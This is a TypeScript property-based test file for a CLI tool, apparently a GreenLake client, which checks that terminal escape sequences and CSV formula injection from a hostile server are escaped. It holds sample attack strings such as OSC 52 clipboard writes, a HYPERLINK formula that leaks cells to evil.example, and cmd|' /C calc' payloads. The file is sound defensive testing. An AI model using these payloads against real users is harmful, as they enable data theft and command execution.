/**
 * No control character from outside reaches the terminal raw: glp's writers
 * (every output format) and glp's run() against a hostile stub server (names,
 * property names, error message and errorCode, text/plain answers, --verbose,
 * --all-tenants failure lines, the progress line) print ESC, DEL and C1 shown
 * escaped, while JSON and YAML still parse back to the data and CSV cells a
 * spreadsheet would evaluate are neutralised (numbers stay numbers).
 */
import { mkdtempSync, rmSync } from "node:fs";
import { createServer, type IncomingMessage, type Server, type ServerResponse } from "node:http";
import type { AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import fc from "fast-check";
import { parse as parseYaml } from "yaml";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { csvField, itemWriter, loadYaml, writeValue, type WriterOptions } from "../../src/cli/output.js";
import { run } from "../../src/cli/run.js";
import { memoryIo } from "./support/cli-io.js";

/** Sequences a hostile server would send: clipboard write (OSC 52), window title (OSC 0), 8-bit CSI, screen clear, bare CR, DEL, NEL. */
const ATTACKS = ["\u001b]52;c;ZWNobyBwd25lZA==\u0007", "\u001b]0;pwned\u0007", "\u009b31m", "\u001b[2J", "\r", "\u007f", "\u0085", "\u001b]8;;http://x\u001b\\"];
export const hostile = fc.array(fc.oneof(fc.string({ unit: "binary", maxLength: 12 }), fc.constantFrom(...ATTACKS)), { maxLength: 5 }).map((parts) => parts.join(""));

/** The control characters in `text` that would reach a terminal raw (glp's own line erase and CRLF line ends aside, where allowed). */
function rawControls(text: string, allow: { crlf?: boolean; clearLine?: boolean } = {}): string[] {
  let t = allow.clearLine ? text.replaceAll("\r\u001b[2K", "") : text;
  if (allow.crlf) t = t.replaceAll("\r\n", "\n");
  return [...t.matchAll(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/g)].map((m) => `U+${m[0].charCodeAt(0).toString(16).padStart(4, "0")}`);
}

function sink(): { write(t: string): void; text(): string } {
  let text = "";
  return { write: (t) => void (text += t), text: () => text };
}

const FORMATS = ["json", "jsonl", "yaml", "csv", "table"] as const;

describe("glp's writers with hostile text in every position (property-based)", () => {
  beforeAll(() => loadYaml());
  const record = fc.dictionary(hostile, fc.oneof(hostile, fc.integer(), fc.constant(null), fc.dictionary(hostile, hostile, { maxKeys: 2 })), { maxKeys: 4 });

  it("no format writes a control character raw; json, jsonl and yaml parse back to the data", () => {
    fc.assert(
      fc.property(fc.constantFrom(...FORMATS), fc.array(record, { minLength: 1, maxLength: 4 }), fc.option(fc.array(hostile, { minLength: 1, maxLength: 3 }), { nil: undefined }), fc.boolean(), (format, items, columns, whole) => {
        const out = sink();
        const options: WriterOptions = { format, width: 100, columns };
        if (whole) writeValue(out, items, options);
        else {
          const writer = itemWriter(out, options);
          writer.items(items);
          writer.end();
        }
        const text = out.text();
        expect(rawControls(text, { crlf: format === "csv" })).toEqual([]);
        if (format === "json" || format === "yaml") expect(format === "json" ? JSON.parse(text) : parseYaml(text)).toEqual(items);
        if (format === "jsonl") expect(text.trimEnd().split("\n").map((l) => JSON.parse(l) as unknown)).toEqual(whole ? [items] : items);
      }),
      { numRuns: 400 },
    );
  });

  it("a CSV cell never starts a formula, and numbers stay numbers", () => {
    const trigger = fc.tuple(fc.constantFrom("=", "+", "-", "@", "\t", "\r", " =", " @"), hostile).map(([t, rest]) => t + rest);
    fc.assert(
      fc.property(fc.oneof(hostile, trigger), (text) => {
        const field = csvField(text);
        const cell = field.startsWith('"') ? field.slice(1, -1).replaceAll('""', '"') : field;
        expect(cell).not.toMatch(/^\s*[=+\-@]/);
        expect(rawControls(field, { crlf: true })).toEqual([]);
      }),
      { numRuns: 500 },
    );
    fc.assert(
      fc.property(fc.oneof(fc.integer(), fc.double({ noNaN: true, noDefaultInfinity: true })), (n) => {
        expect(csvField(n)).toBe(String(n));
        expect(csvField(String(n))).toBe(String(n));
      }),
      { numRuns: 300 },
    );
  });

  it("neutralises the spreadsheet payloads as OWASP says: a leading quote, the field quoted", () => {
    expect(csvField('=HYPERLINK("http://evil.example/?"&A1,"Click")')).toBe('"\'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"');
    expect(csvField("+1+cmd|' /C calc'!A0")).toBe(`"'+1+cmd|' /C calc'!A0"`);
    expect(csvField("@SUM(1+1)*cmd|' /C calc'!A0")).toBe(`"'@SUM(1+1)*cmd|' /C calc'!A0"`);
    expect(csvField("-2+3+cmd|' /C calc'!A0")).toBe(`"'-2+3+cmd|' /C calc'!A0"`);
    expect(csvField("\t=1+1")).toBe(`"'\t=1+1"`);
    expect(csvField(-42)).toBe("-42");
    expect(csvField("-3.5e2")).toBe("-3.5e2");
    expect(csvField("a\u001b]52;c;Zm9v\u0007")).toBe("a\\x1b]52;c;Zm9v\\x07");
  });
});

// ---------------------------------------------------------------------------------------------
// run() against a hostile stub

const WORKSPACE = "0123456789abcdef0123456789abcdef";
const TENANTS = ["11111111111111111111111111111111", "22222222222222222222222222222222"];
let server: Server;
let baseUrl: string;
const dirs: string[] = [];
/** What the stub says; each case sets it. */
const says = { name: "", key: "", errorCode: "", message: "", debugId: "", text: "", tenantName: "" };

function json(res: ServerResponse, status: number, body: unknown): void {
  res.writeHead(status, { "content-type": "application/json" });
  res.end(JSON.stringify(body));
}

beforeAll(async () => {
  server = createServer((req: IncomingMessage, res: ServerResponse) => {
    const url = new URL(req.url ?? "/", "http://127.0.0.1");
    const tenantCall = (req.headers.authorization ?? "").includes("tenant-");
    if (req.method === "POST" && url.pathname.endsWith("/token")) {
      // A token for the workspace, or (exchange) one named after the tenant's workspace.
      const tenant = /oauth2\/([0-9a-f]{32})\/token/.exec(url.pathname)?.[1];
      return json(res, 200, { access_token: tenant === WORKSPACE ? "msp-token" : `tenant-${tenant}`, token_type: "Bearer", expires_in: 900 });
    }
    if (url.pathname === "/workspaces/v1/msp-tenants") {
      // The last tenant's id is as hostile as its name.
      const items = [...TENANTS, says.tenantName].map((id) => ({ id, workspaceName: says.tenantName }));
      return json(res, 200, { items, count: items.length, offset: 0, total: items.length });
    }
    if (url.pathname === "/identity/v1/users" && !tenantCall) {
      return json(res, 200, { items: [{ id: says.name, name: says.name, [says.key]: says.message }], count: 1, offset: 0, total: 1 });
    }
    if (url.pathname === "/identity/v1/users/plain") {
      res.writeHead(200, { "content-type": "text/plain" });
      return res.end(says.text);
    }
    json(res, 400, { httpStatusCode: 400, errorCode: says.errorCode, message: says.message, debugId: says.debugId });
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  baseUrl = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
});

afterAll(async () => {
  server.closeAllConnections();
  await new Promise((resolve) => server.close(resolve));
  for (const dir of dirs) rmSync(dir, { recursive: true, force: true });
});

function env(): Record<string, string> {
  const home = mkdtempSync(join(tmpdir(), "glp-terminal-"));
  dirs.push(home);
  return {
    HOME: home,
    XDG_CONFIG_HOME: join(home, "config"),
    XDG_CACHE_HOME: join(home, "cache"),
    GREENLAKE_CLIENT_ID: "terminal-client",
    GREENLAKE_CLIENT_SECRET: "terminal-secret-value",
    GREENLAKE_WORKSPACE_ID: WORKSPACE,
    GREENLAKE_TOKEN_URL: `${baseUrl}/authorization/v2/oauth2/${WORKSPACE}/token`,
    GREENLAKE_BASE_URL: baseUrl,
  };
}

async function glp(args: string[], e: Record<string, string>, tty: boolean) {
  const io = memoryIo({ env: e, tty, columns: 120 });
  const code = await run(args, io);
  return { code, out: io.out(), err: io.err() };
}

describe("glp against a hostile server (property-based)", () => {
  it("prints no control character from the server raw, on stdout or stderr, in any format", async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.record({ name: hostile, key: hostile, errorCode: hostile, message: hostile, debugId: hostile, text: hostile, tenantName: hostile }),
        fc.constantFrom(...FORMATS),
        fc.boolean(),
        async (said, format, tty) => {
          Object.assign(says, said);
          const e = env();
          const runs = [
            await glp(["identity", "get-users", "--all", "-o", format], e, tty),
            await glp(["identity", "get-users", "-o", format, "--verbose"], e, tty),
            await glp(["identity", "get-user-detailed", "--id", "u1"], e, tty),
            await glp(["identity", "get-user-detailed", "--id", "plain", "--verbose"], e, tty),
            await glp(["identity", "get-users", "--all-tenants", "-o", format], e, tty),
          ];
          expect(runs.map((r) => r.code)).toEqual([0, 0, 1, 0, 8]);
          for (const r of runs) {
            expect(rawControls(r.out, { crlf: true })).toEqual([]);
            expect(rawControls(r.err, { crlf: true, clearLine: tty })).toEqual([]);
          }
          // The tenants' failures are one line each, whatever their names hold.
          expect(runs[4]!.err.trimEnd().split("\n").filter((l) => l.startsWith("glp: tenant "))).toHaveLength(TENANTS.length + 1);
          expect(runs[4]!.err.trimEnd().split("\n")).toHaveLength(TENANTS.length + 2);
        },
      ),
      { numRuns: 15 },
    );
  }, 120_000);

  it("shows the clipboard, title and 8-bit CSI sequences escaped", async () => {
    Object.assign(says, { name: "dev\u001b]52;c;ZWNobyBwd25lZA==\u0007", key: "k", errorCode: "E\u009b31m", message: "boom\u001b]0;pwned\u0007", debugId: "d", text: "x\u001b[2Jy\r\n", tenantName: "t\u001b]0;title\u0007" });
    const e = env();
    const table = await glp(["identity", "get-users", "-o", "table"], e, true);
    expect(table.out).toContain("dev\\x1b]52;c;ZWNobyBwd25lZA==\\x07");
    const error = await glp(["identity", "get-user-detailed", "--id", "u1"], e, false);
    expect(error.err).toContain("E\\x9b31m");
    expect(error.err).toContain("boom\\x1b]0;pwned\\x07");
    const plain = await glp(["identity", "get-user-detailed", "--id", "plain"], e, false);
    expect(plain.out).toBe("x\\x1b[2Jy\r\n");
    const tenants = await glp(["identity", "get-users", "--all-tenants"], e, false);
    expect(tenants.err).toContain("(t\\x1b]0;title\\x07)");
    const json = await glp(["identity", "get-users", "-o", "json"], e, false);
    expect(JSON.parse(json.out)).toEqual([{ id: says.name, name: says.name, k: says.message }]);
  }, 60_000);
});
